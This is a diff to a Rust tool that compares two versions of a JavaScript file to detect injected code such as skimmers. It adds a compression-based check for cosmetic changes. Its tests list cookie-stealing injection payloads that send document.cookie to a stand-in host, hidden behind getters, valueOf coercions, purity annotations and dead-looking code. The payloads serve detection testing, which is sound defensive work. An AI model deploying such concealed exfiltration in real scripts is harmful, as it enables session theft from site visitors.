@@ -1,10 +1,22 @@
 //! Behavioural diff of two versions of a script.
 //!
 //! Equal normalised hashes mean no behaviour changed: reformatting, renamed locals, new
-//! comments, other literals and re-minification are all silent. Otherwise the two multisets
-//! of unit hashes are compared. Units only in the new version are *added*; among them, those
-//! that still contain known code (a library function that gained three lines) are *modified
-//! containers* and are not listed themselves, while the outermost wholly new units are: the
+//! comments, other literals and re-minification are all silent.
+//!
+//! When the hashes differ, a second opinion (the slow path, taken only for a changed script):
+//! both versions are compressed by oxc's compressor and normalised again ([`canonical`]). If
+//! the compressed forms hash the same and the new version names no global, member, URL host
+//! or kept string more often than the old one did, the change is cosmetic (another build's
+//! minifier: inlined single-use functions, merged loop guards, optional chaining) and the
+//! diff says so with `converged_after_compression`. The name check is there because the
+//! compressor is trusted to drop only code that cannot run, and it assumes `valueOf` and
+//! `toString` are pure: an injected `({valueOf(){steal()}}) == 1` vanishes from its output,
+//! but not the names it uses from the served text. Either version too big for the compressor
+//! ([`canonical::MAX_CANONICAL_BYTES`]), or one it cannot compress, stays changed.
+//!
+//! Otherwise the two multisets of unit hashes are compared. Units only in the new version
+//! are *added*; among them, those that still contain known code (a library function that
+//! gained three lines) are *modified containers* and are not listed themselves, while the outermost wholly new units are: the
 //! appended skimmer function, the injected statement. Removed units are found the same way
 //! in the other direction. Hosts and APIs are compared as sets.
 
@@ -13,9 +25,9 @@ use std::collections::HashMap;
 use serde::Serialize;
 
 use super::fingerprint::short_hex;
-use super::normalize::UnitKind;
+use super::normalize::{Tok, UnitKind};
 use super::signals::{self, SINKS};
-use super::{excerpt, line_of, Analysis, Family, Parsed};
+use super::{analyse, canonical, excerpt, line_of, Analysis, Family, Parsed};
 
 /// Units smaller than this (in normalised tokens) are too common (`return a;`) to count as
 /// evidence that a new unit is an old one modified.
@@ -34,9 +46,14 @@ pub struct ScriptDiff {
     pub old: String,
     /// The new file as given.
     pub new: String,
-    /// Whether behaviour changed: normalised hashes differ (or, when a side did not parse,
-    /// raw hashes differ).
+    /// Whether behaviour changed: normalised hashes differ and the compressed forms do not
+    /// converge (or, when a side did not parse, raw hashes differ).
     pub behaviour_changed: bool,
+    /// The normalised hashes differ but both versions, compressed by oxc's compressor, hash
+    /// the same and the new one names nothing more often than the old did: a cosmetic change
+    /// the normaliser alone does not undo (another build's minifier). `behaviour_changed` is
+    /// then false, and the hashes below are those of the versions as served.
+    pub converged_after_compression: bool,
     /// Both sides parsed, so the comparison is by behaviour, not by bytes.
     pub comparable: bool,
     /// Why a side did not parse.
@@ -94,6 +111,7 @@ impl ScriptDiff {
             old: old_name.to_owned(),
             new: new_name.to_owned(),
             behaviour_changed: old.sha256 != new.sha256,
+            converged_after_compression: false,
             comparable: false,
             errors: Vec::new(),
             old_hash: None,
@@ -123,6 +141,11 @@ impl ScriptDiff {
         d.new_hash = Some(pn.normalized_hash.clone());
         d.behaviour_changed = po.normalized_hash != pn.normalized_hash;
         if !d.behaviour_changed {
+            return d;
+        }
+        if converges_after_compression(old, po, new, pn) {
+            d.behaviour_changed = false;
+            d.converged_after_compression = true;
             return d;
         }
         let (added, added_count) = only_in(pn, po, new.source);
@@ -159,6 +182,12 @@ impl ScriptDiff {
         for e in &self.errors {
             let _ = writeln!(s, "  not parsed: {e}");
         }
+        if self.converged_after_compression {
+            let _ = writeln!(
+                s,
+                "  (the same once both are compressed: a cosmetic change)"
+            );
+        }
         if !self.behaviour_changed {
             return s;
         }
@@ -188,6 +217,126 @@ impl ScriptDiff {
         }
         s
     }
+}
+
+/// The second opinion: whether two versions whose normalised hashes differ are the same once
+/// both are compressed, and the new one names nothing more often than the old did.
+fn converges_after_compression(
+    old: &Analysis<'_>,
+    po: &Parsed,
+    new: &Analysis<'_>,
+    pn: &Parsed,
+) -> bool {
+    let Some(old_text) = canonical::compressed(old.source) else {
+        return false;
+    };
+    let a = analyse(&old_text);
+    let Ok(ca) = &a.outcome else {
+        return false;
+    };
+    // Most real changes name something more often: judged before the new version is
+    // compressed, which then is not needed.
+    if touches_new_names(po, ca, pn) {
+        return false;
+    }
+    let Some(new_text) = canonical::compressed(new.source) else {
+        return false;
+    };
+    let b = analyse(&new_text);
+    matches!(&b.outcome, Ok(cb) if cb.normalized_hash == ca.normalized_hash)
+}
+
+/// Whether the new version's normalised form names something more often than the old one's:
+/// a global, a member or property name, a URL host, a kept string or the digest of a code
+/// string (the words the normaliser keeps; operators and the words it uses for the tree's
+/// shape do not count).
+///
+/// A minifier writes those names no more often than the original did: it drops dead code,
+/// inlines single-use functions and merges statements, but it does not invent a reference to
+/// `document` or `.cookie`. Injected code that does anything at all names something — a
+/// global, a member, a property key such as `valueOf` —, so it adds at least one occurrence
+/// even when it only reuses names the library already has.
+///
+/// The compressor itself writes a few names (`"a b c".split(" ")` for an array of strings,
+/// `.slice` for `.substring`, `NaN` for `0/0`), so the old version compressed counts as well:
+/// a name may occur as often as in either form of the old version.
+fn touches_new_names(old: &Parsed, old_compressed: &Parsed, new: &Parsed) -> bool {
+    let (served, compressed) = (name_counts(old), name_counts(old_compressed));
+    name_counts(new).iter().any(|(name, &n)| {
+        let o = served.get(name).copied().unwrap_or(0);
+        let c = compressed.get(name).copied().unwrap_or(0);
+        o.max(c) < n
+    })
+}
+
+/// The names (see [`touches_new_names`]) the new version writes more often than the old
+/// one as served, with both counts: for reading why a change that converged after
+/// compression was still judged a behaviour change.
+pub fn names_more_often(old: &Analysis<'_>, new: &Analysis<'_>) -> Vec<(String, usize, usize)> {
+    let (Ok(po), Ok(pn)) = (&old.outcome, &new.outcome) else {
+        return Vec::new();
+    };
+    let (old_counts, new_counts) = (name_counts(po), name_counts(pn));
+    let mut out: Vec<(String, usize, usize)> = new_counts
+        .iter()
+        .filter_map(|(name, &n)| {
+            let o = old_counts.get(name).copied().unwrap_or(0);
+            (o < n).then(|| ((*name).to_owned(), o, n))
+        })
+        .collect();
+    out.sort();
+    out
+}
+
+/// Words the normaliser writes for the shape of the tree, not for something the script
+/// names: a minifier may write more of them (`function` for an inlined arrow, `undefined`
+/// for a `return` with no value).
+const SHAPE_WORDS: &[&str] = &[
+    "true",
+    "false",
+    "undefined",
+    "label",
+    "prefix",
+    "postfix",
+    "function",
+    "generator",
+    "async",
+    "arrow",
+    "async-arrow",
+    "constructor",
+    "method",
+    "get",
+    "set",
+    "typeof",
+    "void",
+    "delete",
+    "in",
+    "instanceof",
+];
+
+/// How often each name (see [`touches_new_names`]) occurs in a normalised stream.
+fn name_counts(p: &Parsed) -> HashMap<&str, usize> {
+    let mut counts = vec![0usize; p.norm.atoms.len()];
+    for t in &p.norm.toks {
+        if let Tok::Atom(id) = t.tok() {
+            if let Some(c) = counts.get_mut(id as usize) {
+                *c += 1;
+            }
+        }
+    }
+    p.norm
+        .atoms
+        .iter()
+        .zip(counts)
+        .filter(|(a, n)| *n > 0 && is_name(a))
+        .map(|(a, n)| (a.as_str(), n))
+        .collect()
+}
+
+fn is_name(atom: &str) -> bool {
+    atom.bytes()
+        .any(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'$')
+        && !SHAPE_WORDS.contains(&atom)
 }
 
 /// Which units of `a` the unit-hash multiset of `b` lacks: the listed outermost wholly new
@@ -389,5 +538,134 @@ mod tests {
         assert_eq!(d.added[0].hosts, vec!["baways.example".to_owned()]);
         assert!(d.new_sinks.contains(&"fetch".to_owned()));
         assert!(d.to_text().contains("baways.example"));
+    }
+
+    /// What a rebuild by another minifier does that the normaliser does not undo: a loop
+    /// whose body is only `if(c)break` merged into the loop test, `null==x?void 0:x.y` as
+    /// `x?.y`.
+    const REBUILT: &str = "!function(n){function e(n,t){for(var o=0;o<n.length&&!1!==t(n[o],o);o++);}function u(n){return n?.value}n.lib={each:e,get:u}}(window);";
+    const SOURCE: &str = r#"
+        (function (root) {
+            function each(list, fn) {
+                for (var i = 0; i < list.length; i++) {
+                    if (fn(list[i], i) === false) break;
+                }
+            }
+            function get(box) { return box == null ? void 0 : box.value; }
+            root.lib = { each: each, get: get };
+        })(window);
+    "#;
+
+    #[test]
+    fn a_rebuild_by_another_minifier_converges_after_compression() {
+        let (a, b) = (analyse(SOURCE), analyse(REBUILT));
+        let (Ok(pa), Ok(pb)) = (&a.outcome, &b.outcome) else {
+            panic!("both parse");
+        };
+        assert_ne!(
+            pa.normalized_hash, pb.normalized_hash,
+            "the fast path differs"
+        );
+        let d = ScriptDiff::between("a.js", &a, "b.js", &b);
+        assert!(!d.behaviour_changed, "{}", d.to_text());
+        assert!(d.converged_after_compression);
+        assert!(d.to_text().contains("compressed"), "{}", d.to_text());
+        let json = serde_json::to_value(&d).unwrap_or_default();
+        assert_eq!(json["converged_after_compression"], true);
+        // A real change to the same rebuild is still one.
+        let changed = REBUILT.replace("n?.value", "n?.label");
+        let d = ScriptDiff::between("a.js", &a, "c.js", &analyse(&changed));
+        assert!(d.behaviour_changed && !d.converged_after_compression);
+    }
+
+    /// Inserts `code` at the start of the library's function body.
+    fn injected(code: &str) -> String {
+        SOURCE.replace(
+            "function (root) {",
+            &format!("function (root) {{\n{code}\n"),
+        )
+    }
+
+    /// The compressed form keeps what was injected.
+    fn compressed_differs(code: &str) -> bool {
+        let hash = |src: &str| {
+            canonical::compressed(src)
+                .and_then(|c| analyse(&c).outcome.ok().map(|p| p.normalized_hash))
+        };
+        let (clean, dirty) = (hash(SOURCE), hash(&injected(code)));
+        clean.is_some() && clean != dirty
+    }
+
+    /// Injections a compressor might think it can drop, but that run in a browser.
+    const HIDDEN: &[&str] = &[
+        // Pure annotations are comments: the attacker writes them.
+        "/*#__PURE__*/ navigator.sendBeacon('https://collect.invalid/x', document.cookie);",
+        "/*#__PURE__*/ new Image().src = 'https://collect.invalid/x?' + document.cookie;",
+        "var send = /* @__NO_SIDE_EFFECTS__ */ function (d) { navigator.sendBeacon('https://collect.invalid/x', d); }; send(document.cookie);",
+        "/* @__NO_SIDE_EFFECTS__ */ function leak(d) { fetch('https://collect.invalid/x', {method: 'POST', body: d}); } leak(document.cookie);",
+        // A getter runs on a property read.
+        "var o = { get v() { navigator.sendBeacon('https://collect.invalid/x', document.cookie); } }; o.v;",
+        "Object.defineProperty(root, 'q', { get: function () { fetch('https://collect.invalid/x'); } }); root.q;",
+        // Coercions call `toString`, `valueOf` or `Symbol.toPrimitive`.
+        "'' + { toString: function () { navigator.sendBeacon('https://collect.invalid/x', document.cookie); return ''; } };",
+        "({ valueOf: function () { navigator.sendBeacon('https://collect.invalid/x', document.cookie); return 1; } }) == 1;",
+        "var p = { valueOf: function () { fetch('https://collect.invalid/x'); return 1; } }; p < 2;",
+        "`${{ toString() { fetch('https://collect.invalid/x'); return ''; } }}`;",
+        "({ [Symbol.toPrimitive]() { fetch('https://collect.invalid/x'); return 1; } }) * 2;",
+        // Dead-looking code that runs: a hoisted function, a `finally`.
+        "setTimeout(later, 1); return; function later() { fetch('https://collect.invalid/x'); }",
+        "try { } finally { fetch('https://collect.invalid/x'); }",
+        "if (typeof document === 'object') fetch('https://collect.invalid/x');",
+        // `debugger` and `console` stay.
+        "console.log(document.cookie);",
+    ];
+
+    #[test]
+    fn hidden_injections_are_changes() {
+        let clean = analyse(SOURCE);
+        for code in HIDDEN {
+            let dirty = injected(code);
+            let d = ScriptDiff::between("a.js", &clean, "b.js", &analyse(&dirty));
+            assert!(
+                d.behaviour_changed && !d.converged_after_compression,
+                "{code}: {}",
+                d.to_text()
+            );
+        }
+    }
+
+    /// The compressor alone (without the name check) keeps what runs: annotated calls,
+    /// getters, concatenation and template strings, `Symbol.toPrimitive`, hoisted functions.
+    /// Comparisons on an object whose result is unused are the exception: oxc assumes
+    /// `valueOf` is pure and drops them, and only the name check (the test above) sees them.
+    #[test]
+    fn the_compressor_keeps_what_runs_but_comparisons() {
+        for code in HIDDEN {
+            let comparison = code.contains(") == 1;") || code.contains("p < 2;");
+            assert_eq!(
+                compressed_differs(code),
+                !comparison,
+                "{code} (if oxc now keeps a comparison, say so in canonical.rs)"
+            );
+        }
+    }
+
+    /// Reusing only names the library already has, as often as it has them, is still seen
+    /// when the compressor keeps the code (here: a call with its effect).
+    #[test]
+    fn reused_names_still_count() {
+        let clean = analyse(SOURCE);
+        // `each` and `root.lib` exist in the library; calling them again is new behaviour.
+        let dirty = injected("setTimeout(function () { root.lib.each([1], get); }, 1);");
+        let d = ScriptDiff::between("a.js", &clean, "b.js", &analyse(&dirty));
+        assert!(d.behaviour_changed, "{}", d.to_text());
+    }
+
+    #[test]
+    fn too_big_for_the_compressor_stays_changed() {
+        let pad = format!("/*{}*/", " ".repeat(canonical::MAX_CANONICAL_BYTES));
+        let big = format!("{SOURCE}{pad}");
+        let d = ScriptDiff::between("a.js", &analyse(&big), "b.js", &analyse(REBUILT));
+        assert!(d.comparable && d.behaviour_changed && !d.converged_after_compression);
     }
 }
